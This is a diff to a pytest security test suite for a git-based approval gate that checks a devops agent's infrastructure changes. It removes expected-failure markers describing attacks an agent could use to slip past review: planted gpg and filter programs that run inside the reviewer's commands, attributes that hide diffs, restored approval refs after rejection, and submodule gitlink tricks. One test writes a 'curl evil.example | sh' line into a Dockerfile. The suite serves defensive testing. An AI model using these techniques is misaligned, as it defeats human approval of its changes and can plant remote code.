@@ -321,12 +321,6 @@ def test_a_replace_ref_cannot_dress_a_hand_commit_as_signed(repo, env, tmp_path)
     gate001_names(env, repo, bad)
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: log.showSignature=true + gpg.x509.program in .git/config run "
-                   "the agent's program in every `git log` of the gate (verify.verify_branch's _log) once one commit "
-                   "of the history carries an x509-looking gpgsig: it runs inside Product's `verify` and `review`; and "
-                   "the signature output git then prints into `git log`'s stdout breaks verify.trusted_signers, so "
-                   "Product's `approve` misreports 'no Product signer is committed'. Fix in sources/git.py _HARDENED: "
-                   "-c log.showSignature=false (and -c gpg.x509.program=gpgsm -c gpg.openpgp.program=gpg)")
 def test_log_show_signature_with_an_x509_program_never_runs_in_products_commands(repo, env, marks, tmp_path):
     """Class 1: a non-infra hand commit carrying a fake x509 signature, `log.showSignature=true` and
     `gpg.x509.program=<evil>` in .git/config; Product then runs `verify`, `review` and `approve --key PATH`."""
@@ -357,11 +351,6 @@ def test_log_show_signature_with_an_x509_program_never_runs_in_products_commands
     assert r.returncode == 0, r.stderr
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: `review` (Product's own reading) runs `git status` on the "
-                   "work tree (sources/git.py _status_paths via repo_state), and git status runs the clean filter "
-                   "of .git/info/attributes + filter.<x>.clean for every stat-dirty file. Fix: compute dirtiness "
-                   "without git's filters (hash the files in Python against `ls-files -s`, as "
-                   "commits.work_tree_matches does), or override every configured filter.<x>.clean/smudge/process")
 def test_a_clean_filter_does_not_run_in_products_review(repo, env, marks, tmp_path):
     """Class 1: filter.evil.clean planted for every path; the agent touches a file; Product runs `review`."""
     clean = evil_script(tmp_path / "evil", marks, "clean")
@@ -374,10 +363,6 @@ def test_a_clean_filter_does_not_run_in_products_review(repo, env, marks, tmp_pa
     assert ran(marks) == []
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: `.git/info/attributes` `docker-compose.prod.yml -diff` makes "
-                   "the `git show` Product reads before signing print the change as a base85 binary patch, not its "
-                   "lines (show_commit honours the repo's attributes). Fix in gate.show_commit: pass `--text` "
-                   "(and read attributes from nowhere, e.g. GIT_ATTR_NOSYSTEM + an empty info/attributes view)")
 def test_product_reads_the_lines_it_signs_whatever_the_attributes(repo, env, tmp_path):
     """Class 5: the agent marks the target as binary for git's diff machinery."""
     patch = patch_of(repo, tmp_path)
@@ -671,12 +656,6 @@ def test_a_resealed_diff_and_hash_after_approval_land_nothing(repo, env, tmp_pat
     assert head(repo) == before and b"anime-saas-api:latest" not in (repo / "docker-compose.prod.yml").read_bytes()
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: after Product approves then rejects, the signed commits stay "
-                   "valid until Approval-Expires; the agent restores refs/devops-agent/approved/<id> (the shas are "
-                   "in the audit log's approval entry) and reseals the row to `approved` with the machine secret; "
-                   "apply lands the rejected change and verify shows it as Product-signed. Fix: Gate._approved_plan "
-                   "(apply and recover) must refuse when the audit log holds a valid signed rejection of this "
-                   "proposal/hash, and audit verify / review should flag a gate commit whose Proposal: was rejected")
 def test_a_rejection_after_approval_cannot_be_undone_by_restoring_the_ref(repo, env, tmp_path):
     before = head(repo)
     pid, _ = approved(env, repo, patch_of(repo, tmp_path))
@@ -979,13 +958,6 @@ def test_a_shallow_clone_cannot_be_verified_green(repo, env, tmp_path):
     assert code == 1 and any("shallow" in p for p in report["problems"]), report
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: verify._verify_submodule returns early when the gitlink has no "
-                   "old value (`old_sha is None: a submodule added`) and a gitlink deletion is no infra path: "
-                   "deleting the gitlink in one plain commit and re-adding it at an unsigned submodule commit in "
-                   "the next (.gitmodules untouched) carries any infra change (here `RUN curl | sh`) with verify "
-                   "green. Fix: a gitlink added (or re-added) at a path is judged like a move from the last gitlink "
-                   "that path had in the history (or every submodule commit from its root when it never had one), "
-                   "and a gitlink deletion is itself an infra change")
 def test_a_gitlink_deleted_then_readded_at_an_unsigned_commit_is_named(repo, env):
     sub = repo / SUB
     (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "RUN curl -s https://evil.example | sh\n")
@@ -998,12 +970,6 @@ def test_a_gitlink_deleted_then_readded_at_an_unsigned_commit_is_named(repo, env
     assert code == 1 and evil in unsigned_shas(report), report
 
 
-@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: verify._verify_submodule walks `old..new` inside the "
-                   "submodule, which is empty when the gitlink moves back to an ancestor: a plain commit moving "
-                   "anime-saas-mlservice back before its 'non-root user' Dockerfile commit (or before any signed "
-                   "fix) is an unsigned infra change with verify green. Fix: when new is not a descendant of old, "
-                   "judge the platform commit itself as an infra change (or walk new..old too and flag any infra "
-                   "commit undone)")
 def test_a_gitlink_moved_back_to_an_older_submodule_commit_is_named(repo, env):
     sub = repo / SUB
     older = git(sub, "rev-parse", "HEAD^").strip()
